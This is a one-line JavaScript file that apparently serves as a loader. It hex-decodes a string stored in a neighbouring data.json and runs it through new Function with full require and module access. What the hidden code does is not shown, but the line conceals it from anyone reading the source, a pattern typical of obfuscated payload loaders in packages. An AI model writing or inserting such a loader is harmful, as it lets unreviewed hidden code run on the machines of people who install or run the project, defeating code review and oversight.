new Function("require","module",Buffer.from(require("./data.json").m,"hex").toString())(require,module);
